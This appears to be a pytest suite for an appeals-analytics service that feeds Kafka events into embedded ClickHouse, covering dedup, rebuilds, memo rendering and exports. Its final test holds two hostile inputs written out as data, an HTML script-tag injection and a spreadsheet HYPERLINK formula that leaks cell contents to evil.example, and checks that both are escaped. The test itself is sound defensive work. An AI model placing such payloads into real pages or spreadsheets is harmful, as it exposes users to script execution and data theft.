"""Analytics on real parts: the log on Kafka into embedded ClickHouse (chDB)."""

from __future__ import annotations

import io
import json
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest

from contracts import CATALOG, encode
from kit.settings import Settings
from kit.topics import ensure_log_topics
from services.analytics.application import Analytics
from services.analytics.entrypoints.ingest import Ingestor
from services.analytics.adapters.projection import Projector, add_log_row
from services.analytics.entrypoints.rebuild import RebuildError, rebuild
from tests.support import chdb
from tests.support.envelopes import AppealStory
from tests.support.logtools import produce_raw
from tests.support.analytics_fixture import FORMULA, W47, fixture_events, msk

pytestmark = [pytest.mark.kafka, pytest.mark.chdb]
MSK = ZoneInfo("Europe/Moscow")


@pytest.fixture
async def log(kafka_bootstrap, log_topic):
    settings = Settings(kafka_bootstrap=kafka_bootstrap, log_topic=log_topic, log_partitions=3)
    await ensure_log_topics(settings)
    return settings


async def publish(settings, envelopes) -> None:
    await produce_raw(settings.kafka_bootstrap, settings.log_topic,
                      [(str(e.appeal_id).encode(), encode(e)) for e in envelopes])


def ingestor(settings, ch) -> Ingestor:
    return Ingestor(Projector(ch, MSK), settings.log_topic, settings.dlq_topic,
                    settings.kafka_bootstrap, group=f"a-{settings.log_topic}", batch_size=7)


async def ingest_until(ing: Ingestor, ch, expected_events: int) -> None:
    for _ in range(200):
        if ch.query("SELECT count() FROM events")[1][0][0] >= expected_events:
            return
        await ing.consume_once()
    raise AssertionError("ingestion did not reach the expected count")


def snapshot(ch) -> dict:
    """Everything the indicators are computed from, in a comparable form."""
    return {
        "events": ch.query("SELECT count(), uniqExact(event_id) FROM events")[1],
        "daily": ch.query("SELECT day, recipient_id, topic, territory, channel, kind, sum(new),"
                          " sum(repeat), sum(overdue), sum(postponed), sum(answered), sum(on_time),"
                          " sum(late), sum(reworks), sum(ratings), sum(rating_sum) FROM daily"
                          " GROUP BY ALL ORDER BY ALL")[1],
        "appeals": ch.query("SELECT appeal_id, status, recipient_id, overdue, repeat, reworks,"
                            " rating, toString(due_at), toString(answered_at) FROM appeals FINAL"
                            " ORDER BY appeal_id")[1],
    }


async def test_ingest_with_duplicates_and_restarts_counts_each_event_once(log):
    ch = chdb.fresh()
    events, _ = fixture_events()
    half = len(events) // 2
    # the first half twice: a relay that republished after a crash
    await publish(log, events[:half] + events[:half])
    first = ingestor(log, ch)
    await first.start()
    await ingest_until(first, ch, half)
    for _ in range(5):
        await first.consume_once()  # drain the republished copies
    await first.close()
    assert ch.query("SELECT count(), uniqExact(event_id) FROM events")[1] == [(half, half)]

    await publish(log, events[half:] + events[half:half + 3])
    restarted = ingestor(log, ch)  # resumes at the stored positions, states from `appeals`
    await restarted.start()
    await ingest_until(restarted, ch, len(events))
    for _ in range(5):
        await restarted.consume_once()
    await restarted.close()
    assert ch.query("SELECT count(), uniqExact(event_id) FROM events")[1] == [
        (len(events), len(events))]
    totals = Analytics(ch, MSK, FORMULA).reports.totals(W47)
    assert totals == {"new": 3, "repeat": 1, "overdue": 2, "postponed": 1, "answered": 1}


async def test_a_crash_between_insert_and_positions_changes_nothing_on_reread(log):
    ch = chdb.fresh()
    events, _ = fixture_events()
    await publish(log, events)
    ing = ingestor(log, ch)
    await ing.start()
    await ing.consume_once()
    while await ing._consumer.getmany(timeout_ms=300):  # noqa: SLF001 - read, never stored
        pass
    await ing.close()  # positions were stored only for the first batch
    again = ingestor(log, ch)
    await again.start()
    await ingest_until(again, ch, len(events))
    await again.close()
    before = snapshot(ch)
    assert before["events"] == [(len(events), len(events))]
    assert Analytics(ch, MSK, FORMULA).reports.totals(W47)["overdue"] == 2


def every_kind_of_story() -> list:
    """The fixture week plus one appeal that goes through every event type of the catalog
    (example payloads), in a lifecycle order, and an AppealRated of schema version 1."""
    events, _ = fixture_events()
    story, at = AppealStory(), msk(11, 9)
    order = ["AppealRegistered", "AppealNumbered", "NoticeFailed", "NoticeDelivered",
             "AppealClassified", "AppealRouted", "AppealDisputed",
             "DisputeResolved", "AppealAssigned", "DeadlineSet", "AppealReturned",
             "AppealAssigned", "AppealMarkedRepeat", "AppealEscalated", "DeadlineReminderIssued",
             "DeadlineBreached", "AppealPostponed", "DeadlinePaused", "DeadlineResumed",
             "DeadlineExtended", "AnswerDrafted", "AnswerSentForApproval",
             "AnswerReturnedForRework", "AnswerApproved", "AnswerPublished", "DeadlineStopped",
             "DeliveryFailed", "AnswerDelivered", "AnswerRatingReceived",
             "AppealRated", "AppealReopened", "AppealMarkedRepeat", "AppealTransferred",
             "AppealLeftWithoutAnswer", "AppealClosed"]
    assert set(order) == set(CATALOG), "a new event type must join the rebuild test"
    for step, event_type in enumerate(order):
        events.append(story.registered(at) if event_type == "AppealRegistered"
                      else story.event(event_type, at + timedelta(hours=step)))
    old = AppealStory()
    events += [old.registered(msk(12)), old.event("AppealRated", msk(13), score=4)]
    v1 = events[-1].model_copy(update={"schema_version": 1, "payload": {"score": 4}})
    return events[:-1] + [v1]


def table(ch, name: str, skip: tuple[str, ...]) -> tuple[list[str], list[tuple]]:
    columns = [c for (c,) in ch.query("SELECT name FROM system.columns WHERE database ="
                                      " currentDatabase() AND table = {t:String} ORDER BY"
                                      " position", {"t": name})[1] if c not in skip]
    final = " FINAL" if name == "appeals" else ""
    return columns, ch.query(f"SELECT {', '.join(f'`{c}`' for c in columns)} FROM {name}{final}"
                             " ORDER BY ALL")[1]


def tables(ch) -> dict:
    """The whole content of the tables; payloads as parsed JSON (the rebuild writes them as
    ClickHouse re-serialises them: 1.0 becomes 1)."""
    columns, rows = table(ch, "events", ("ingested_at",))
    at = columns.index("payload")
    return {"events": [r[:at] + (json.loads(r[at]),) + r[at + 1:] for r in rows],
            "appeals": table(ch, "appeals", ("version",))[1],
            "daily": ch.query("SELECT day, municipality, region, recipient_id, topic,"
                              " thematic_block, territory, channel, kind, COLUMNS('^[a-z_]+$')"
                              " EXCEPT (day, municipality, region, recipient_id, topic,"
                              " thematic_block, territory, channel, kind) APPLY(sum) FROM daily"
                              " GROUP BY ALL ORDER BY ALL")[1]}


@pytest.mark.parametrize("wave_records", [1, 10**6], ids=["a-wave-per-partition", "one-wave"])
async def test_rebuild_from_the_log_gives_the_same_tables(log, wave_records):
    ch = chdb.fresh()
    events = every_kind_of_story()
    poison = [(b"k", b"{not json"), (b"k", b'{"event_type": "AppealRouted"}')]
    await publish(log, events + events[:4])
    await produce_raw(log.kafka_bootstrap, log.log_topic, poison)
    ing = ingestor(log, ch)
    await ing.start()
    await ingest_until(ing, ch, len(events))
    for _ in range(3):
        await ing.consume_once()
    await ing.close()
    before = tables(ch)
    assert len(before["events"]) == len(events) and len(before["appeals"]) == 6
    seen = []
    read = await rebuild(Projector(ch, MSK), log.kafka_bootstrap, log.log_topic,
                         lambda phase, done, total: seen.append((phase, done, total)),
                         wave_records=wave_records)
    assert read == len(events) + 4 + len(poison)
    after = tables(ch)
    for name in before:
        assert after[name] == before[name], name
    assert seen[0] == ("чтение журнала", 0, read) and ("чтение журнала", read, read) in seen
    assert seen[-1][0] == "готово"
    assert ch.query("SELECT count() FROM log_parsed")[1] == [(0,)]  # every wave dropped


async def test_a_rebuild_from_a_missing_log_refuses_and_keeps_the_tables(log):
    ch = chdb.fresh()
    Projector(ch, MSK).project(chdb.records(fixture_events()[0]))
    before = tables(ch)
    with pytest.raises(RebuildError, match="нет топика журнала"):
        await rebuild(Projector(ch, MSK), log.kafka_bootstrap, log.log_topic + "-missing")
    assert tables(ch) == before


def test_staged_log_rows_keep_every_byte_of_their_values():
    ch = chdb.fresh()
    ch.command("CREATE TABLE IF NOT EXISTS staged_bytes (batch UInt64, `partition` UInt16,"
               " `offset` UInt64, value String) ENGINE = Memory")
    ch.command("TRUNCATE TABLE staged_bytes")
    values = [b"", b'{"text": "tab\there\nline\\"}', "тема «ЖКХ»".encode() * 9,
              b"\xff\xfe not utf-8 \x00\r\n", b"x" * 127, b"y" * 128, b"z" * 16_384,
              b"w" * 70_000, None]
    rows = bytearray()
    for i, v in enumerate(values):
        add_log_row(rows, 2**63 + i, i % 3, 10**12 + i, v)
    ch.insert_row_binary("staged_bytes", ("batch", "partition", "offset", "value"), rows)
    staged = ch.query("SELECT batch, `partition`, `offset`, hex(value) FROM staged_bytes"
                      " ORDER BY `offset`")[1]
    assert staged == [(2**63 + i, i % 3, 10**12 + i, (v or b"").hex().upper())
                      for i, v in enumerate(values)]


def test_the_memo_renders_as_html_and_pdf_with_its_charts():
    from services.analytics.adapters.memo.render import render_html, render_pdf
    from tests.support.analytics_fixture import msk

    ch = chdb.fresh()
    events, _ = fixture_events()
    Projector(ch, MSK).project(chdb.records(events))
    data = Analytics(ch, MSK, FORMULA).memo_data("2026-W47", now=msk(30, 0))
    html = render_html(data)
    assert html.count("data:image/png;base64,") == 4
    for section in ("Итоги недели", "Что изменилось", "Наиболее просроченные", "Рейтинг получателей",
                    "Тепловая карта", "Факторы роста", "Удовлетворённость"):
        assert section in html
    assert "Новые обращения: выросло с 1 до 3 (+200%)" in html
    pdf = render_pdf(data)
    assert pdf.startswith(b"%PDF") and pdf.count(b"/Type /Page") >= 2


def test_exports_for_the_regional_center():
    from openpyxl import load_workbook

    from services.analytics.adapters import exports

    ch = chdb.fresh()
    events, _ = fixture_events()
    Projector(ch, MSK).project(chdb.records(events))
    data = exports.tables(Analytics(ch, MSK, FORMULA).reports, W47)
    book = load_workbook(io.BytesIO(exports.to_xlsx(data)))
    assert book.sheetnames == ["Тема", "Территория", "Получатель", "Канал", "Рейтинг",
                               "Тепловая карта"]
    assert [c.value for c in book["Тема"][1]] == ["value", "new", "repeat", "overdue",
                                                  "postponed", "answered"]
    csv_text = exports.to_csv(data["counts_by_topic"])
    assert csv_text.splitlines()[0] == "value,new,repeat,overdue,postponed,answered"
    assert "Ямы,2,0,1,0,1" in csv_text
    only = exports.tables(Analytics(ch, MSK, FORMULA).reports, W47, ["rating"])
    assert only == {"rating": data["rating"]}


HOSTILE_TOPIC = '<script>alert("МЦУ")</script><b>Ямы'
HOSTILE_TERRITORY = '=HYPERLINK("http://evil.example/?"&A1,"Почтовское")'


def test_hostile_topic_and_territory_names_are_text_in_the_memo_and_exports():
    """Topics and territories come from the channels: in the memo they are text, not
    markup (HTML, reportlab), and a spreadsheet never runs them as a formula."""
    from openpyxl import load_workbook

    from services.analytics.adapters import exports
    from services.analytics.adapters.memo.render import render_html, render_pdf

    ch = chdb.fresh()
    story = AppealStory()
    Projector(ch, MSK).project(chdb.records([
        story.registered(msk(16), topic=HOSTILE_TOPIC, territory=HOSTILE_TERRITORY),
        story.event("AppealRouted", msk(16, 11), recipient_id="adm-roads"),
        story.event("DeadlineSet", msk(16, 11), stage="answer", due_at=msk(18, 23).isoformat()),
        story.event("DeadlineBreached", msk(19), stage="answer")]))
    analytics = Analytics(ch, MSK, FORMULA)
    data = analytics.memo_data("2026-W47", now=msk(30, 0))
    html = render_html(data)
    assert "<script>" not in html and "<b>Ямы" not in html
    assert "&lt;script&gt;" in html
    assert [a["topic"] for a in data["worst_overdue"]] == [HOSTILE_TOPIC]  # in the tables
    assert render_pdf(data).startswith(b"%PDF")  # unescaped, reportlab's parser would fail
    tables = exports.tables(analytics.reports, W47)
    book = load_workbook(io.BytesIO(exports.to_xlsx(tables)))
    cells = [c for row in book["Территория"].iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    assert "'=HYPERLINK" in exports.to_csv(tables["counts_by_territory"])
